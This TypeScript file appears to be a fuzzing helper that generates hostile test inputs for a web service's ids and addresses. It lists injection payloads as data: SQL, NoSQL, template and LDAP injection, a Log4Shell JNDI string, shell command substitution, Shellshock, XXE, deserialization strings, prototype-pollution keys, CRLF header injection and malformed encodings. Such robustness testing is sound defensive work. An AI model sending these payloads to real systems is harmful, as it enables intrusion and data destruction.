import type { Dice } from './dice.ts'

/** Values that mean something to databases, templates and shells, and nothing to a county. */
export function foreignLanguage(dice: Dice): string {
  const name = dice.word(3 + dice.below(8))
  const number = dice.below(10_000)
  return dice.pick([
    `' OR '${number}'='${number}`,
    `'; DROP TABLE ${name}; --`,
    `${number} UNION ALL SELECT ${number}, ${name} --`,
    `1); DELETE FROM ${name} WHERE (1=1`,
    `$$; SELECT pg_sleep(${number}); $$`,
    `\\'; COPY ${name} TO PROGRAM 'id'; --`,
    `{"$gt": "${name}"}`,
    `{"$where": "sleep(${number})"}`,
    `[$ne]=${name}`,
    `{{${number}*${number}}}`,
    `\${${number}*${number}}`,
    `<%= ${number} * ${number} %>`,
    `#{${number}*${number}}`,
    `{% for x in ${name} %}x{% endfor %}`,
    `\${jndi:ldap://${name}.example/a}`,
    `$(id ${name})`,
    `\`cat ${name}\``,
    `| ping ${name}.example`,
    `;${name} & ${number}`,
    `*)(uid=*))(|(uid=${name}`,
    `<!DOCTYPE a [<!ENTITY b SYSTEM "${name}">]>`,
    `%n%s%x${number}`,
    `() { :; }; ${name}`,
    `O:8:"${name}":1:{s:1:"a";i:${number};}`,
    `__import__('${name}')`
  ])
}

/** Names that every object of JavaScript has already. */
export const prototypeNames = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'constructor.prototype',
  '__proto__[a]',
  'constructor[prototype][a]',
  '__proto__[]',
  'then'
] as const

/** Something in the place of a number or an id that is none of this county. Never without a letter that no id has, unless it is too large. */
export function strangeId(dice: Dice): string {
  const hex = Array.from({ length: 32 }, () => '0123456789abcdef'[dice.below(16)]).join('')
  const uuid = `${hex.slice(0, 8)}-${hex.slice(8, 12)}-${hex.slice(12, 16)}-${hex.slice(16, 20)}-${hex.slice(20)}`
  return encodeURIComponent(
    dice.make([
      () => uuid,
      () => uuid.toUpperCase(),
      () => `{${uuid}}`,
      () => uuid.slice(1),
      () => `${uuid}0`,
      () => hex,
      () => `-${1 + dice.below(99)}`,
      () => `${900_000_000 + dice.below(99_999_999)}`,
      () => `${dice.below(10)}${'9'.repeat(9 + dice.below(60))}`,
      () => `9223372036854775${800 + dice.below(100)}`,
      () => `2147483${600 + dice.below(100)}`,
      () => `1e${dice.below(400)}x`,
      () => `0x${hex.slice(0, 6)}`,
      () => `-0.${dice.below(1000)}`,
      () => 'NaN',
      () => 'Infinity',
      () => 'null',
      () => 'undefined',
      () => 'true',
      () => `[${dice.below(10)}]`,
      () => `${'١٢٣٤٥٦٧٨٩'.slice(0, 1 + dice.below(8))}`,
      () => `${'一二三四五六'.slice(0, 1 + dice.below(5))}`,
      () => `${'०१२३४५'.slice(0, 1 + dice.below(5))}`,
      () => `1️⃣${dice.below(100)}`,
      () => `¹²${dice.below(100)}`,
      () => ` ${dice.below(100)} x`,
      () => `+${dice.below(100)}`,
      () => `00${dice.below(1000)}`,
      () => `\u202e${dice.word(4)}`,
      () => `${dice.word(300)}`,
      () => dice.pick(prototypeNames),
      () => foreignLanguage(dice)
    ])
  )
}

/** Control signs, halves of signs, and bytes that are no text, as they stand in an address. */
export function brokenSigns(dice: Dice): string {
  return dice.pick([
    `%00${dice.word(3)}`,
    `${dice.word(3)}%00`,
    `%0${dice.pick(['1', '2', '7', '8', 'b', 'c', 'e', 'f'])}`,
    `%1${dice.pick(['0', '1', 'a', 'b', 'f'])}${dice.word(2)}`,
    `%7f${dice.word(2)}`,
    `${dice.word(2)}%0d%0aSet-Cookie:%20${dice.word(4)}=1`,
    `%0aX-${dice.word(4)}:%20a`,
    `%c2%8${dice.below(10)}`,
    `%e2%80%ae${dice.word(3)}`,
    `%ef%bf%be`,
    `%f0%9f%92%a9%00`,
    `%ef%bb%bf${dice.word(2)}`,
    `%cc%81`.repeat(1 + dice.below(60))
  ])
}

/** Escapes that stand for nothing: half surrogates as UTF-8, cut and over-long sequences, bytes that begin none. */
export function brokenEscape(dice: Dice): string {
  const hex = (): string => dice.below(256).toString(16).padStart(2, '0')
  return dice.pick([
    '%',
    `%${dice.pick(['z', 'g', '-', '%', '~'])}${dice.word(1)}`,
    `${dice.word(2)}%${dice.below(10)}`,
    `%u${hex()}${hex()}`,
    '%e0%a4',
    `%c3${dice.word(2)}`,
    `%ed%a${dice.below(10)}%8${dice.below(10)}`,
    `%ed%b${dice.below(10)}%9${dice.below(10)}`,
    '%c0%ae%c0%ae%c0%af',
    `%e0%80%a${dice.below(10)}`,
    `%f8%88%80%80%8${dice.below(10)}`,
    `%f${dice.pick(['e', 'f'])}${dice.word(1)}`,
    `%8${dice.below(10)}`,
    `%f4%9${dice.below(10)}%80%80`
  ])
}
